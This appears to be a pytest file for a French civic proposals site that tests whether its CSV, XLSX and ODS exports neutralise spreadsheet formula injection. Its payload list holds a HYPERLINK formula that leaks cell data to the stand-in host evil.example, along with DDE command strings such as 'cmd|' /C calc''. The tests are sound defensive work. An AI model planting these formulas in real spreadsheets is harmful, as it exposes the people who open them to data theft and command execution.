"""Formula injection («CSV injection», OWASP): no text an editor typed runs as a formula in a
spreadsheet the site or the back office produces. A text cell starting with =, +, -, @, a tab
or a carriage return gets a leading apostrophe; numbers stay numbers."""

import csv
import io
import zipfile

import openpyxl
import pytest

from proposals.spreadsheets.cells import neutralise, unneutralise
from tests.backoffice.helpers import export, import_and_confirm
from tests.factory import make_axis, make_proposal, make_review, set_status
from tests.snapshots import replayed

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez ici")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|x",
    "@SUM(1+1)*cmd|x",
    "\t=1+1",
]
AXIS_NAME = "=1+1 axe"


def build_hostile_titles():
    axis = make_axis(slug="ecologique", name=AXIS_NAME)
    for index, title in enumerate(PAYLOADS, start=1):
        proposal = make_proposal(axis, key=f"hostile-{index}", title=title, number=index, order=index)
        set_status(proposal, 2025, "implemented")
    make_review(2025)


@pytest.fixture
def hostile_titles(db):
    replayed(build_hostile_titles)


def _csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def _assert_neutralised(values):
    assert sorted(values) == sorted("'" + payload for payload in PAYLOADS)


def test_the_open_data_csv_neutralises_formulas(citizen, hostile_titles):
    rows = _csv_rows(citizen.get("/propositions.csv").content)

    _assert_neutralised(row["intitule"] for row in rows)
    assert rows[0]["numero"] == "1"  # numbers are untouched
    assert rows[0]["axe_libelle"] == "'" + AXIS_NAME


def test_the_open_data_json_keeps_the_titles_as_they_are(citizen, hostile_titles):
    rows = citizen.get("/propositions.json").json()["propositions"]

    assert sorted(row["intitule"] for row in rows) == sorted(PAYLOADS)


def test_the_review_csv_neutralises_formulas(citizen, hostile_titles):
    rows = _csv_rows(citizen.get("/bilans/2025.csv").content)

    _assert_neutralised(row["intitule"] for row in rows)


def test_the_review_xlsx_has_no_formula_and_keeps_its_numbers(citizen, hostile_titles):
    workbook = openpyxl.load_workbook(io.BytesIO(citizen.get("/bilans/2025.xlsx").content))

    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    proposals = workbook.worksheets[1]
    headers = [cell.value for cell in proposals[1]]
    titles = [row[headers.index("Proposition")] for row in proposals.iter_rows(min_row=2, values_only=True)]
    _assert_neutralised(titles)
    summary = workbook.worksheets[0]
    axis_row = [cell.value for cell in summary[2]]
    assert axis_row[0] == "'" + AXIS_NAME
    assert 100.0 in axis_row  # the rate is a number, not a text


def test_the_review_ods_has_no_formula(citizen, hostile_titles):
    content = zipfile.ZipFile(io.BytesIO(citizen.get("/bilans/2025.ods").content)).read("content.xml").decode()

    assert "table:formula" not in content
    assert "&apos;-2+3+cmd|x" in content or "'-2+3+cmd|x" in content
    assert ">-2+3+cmd|x<" not in content


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_the_back_office_exports_neutralise_formulas(superuser_client, hostile_titles, fmt):
    content = export(superuser_client, "proposal", fmt)

    if fmt == "csv":
        rows = _csv_rows(content)
        _assert_neutralised(row["titre"] for row in rows)
        assert sorted(row["numero"] for row in rows) == [str(n) for n in range(1, len(PAYLOADS) + 1)]
    elif fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        assert [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
        headers = [cell.value for cell in sheet[1]]
        rows = list(sheet.iter_rows(min_row=2, values_only=True))
        _assert_neutralised(row[headers.index("titre")] for row in rows)
        assert sorted(row[headers.index("numero")] for row in rows) == list(range(1, len(PAYLOADS) + 1))
    else:
        xml = zipfile.ZipFile(io.BytesIO(content)).read("content.xml").decode()
        assert "table:formula" not in xml
        assert ">-2+3+cmd|x<" not in xml


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_an_exported_file_imports_back_to_the_same_titles(superuser_client, hostile_titles, fmt):
    from proposals.models import Proposal

    content = export(superuser_client, "proposal", fmt)
    response = import_and_confirm(superuser_client, "proposal", content, fmt)

    assert response.status_code == 302
    assert sorted(Proposal.objects.values_list("title", flat=True)) == sorted(PAYLOADS)


@pytest.mark.parametrize(
    "value, cell",
    [
        ("\r=1+1", "'\r=1+1"),
        ("-3", "-3"),
        ("+2.5", "+2.5"),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
        ("Planter des arbres", "Planter des arbres"),
        ("'=déjà", "''=déjà"),
        ("'apostrophe", "'apostrophe"),
    ],
)
def test_only_texts_that_would_run_get_an_apostrophe(value, cell):
    assert neutralise(value) == cell
    assert unneutralise(neutralise(value)) == value
